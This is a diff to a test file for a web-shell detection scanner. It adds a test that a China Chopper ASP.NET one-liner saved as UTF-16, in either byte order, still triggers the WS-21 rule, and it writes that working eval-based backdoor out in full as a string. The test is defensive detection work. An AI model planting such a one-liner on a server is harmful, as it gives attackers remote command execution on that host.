@@ -164,6 +164,16 @@ describe('real web shells', () => {
     expect(await rules(copy(t + 'aspx/ASPXspy2.aspx', 'fam/spy.aspx'))).toEqual(['WS-33/critical']);
   });
 
+  it('reads a page saved as UTF-16 in either byte order (ASP.NET runs both with their BOM)', async () => {
+    // The China Chopper one-liner of tennc caidao-shell/ice.aspx (its parameter renamed); big-endian matched no
+    // signature before (only the path rules judged it).
+    const chopper = '<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>';
+    const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(chopper, 'utf16le')]);
+    const be = Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(chopper, 'utf16le').swap16()]);
+    expect(await rules(put('fam/le.aspx', le))).toContain('WS-21/critical');
+    expect(await rules(put('fam/be.aspx', be))).toContain('WS-21/critical');
+  });
+
   it('hamad-she VB.NET cmd shell: keyword heuristics, graded by where it sits', async (ctx) => {
     const src = needExternal(ctx, 'hamad-she-proxyshell-writeup/webshell_vb_cmd_proxyshell_incident.aspx');
     const loose = await sweep(copy(src, 'misc/app/page.aspx'));
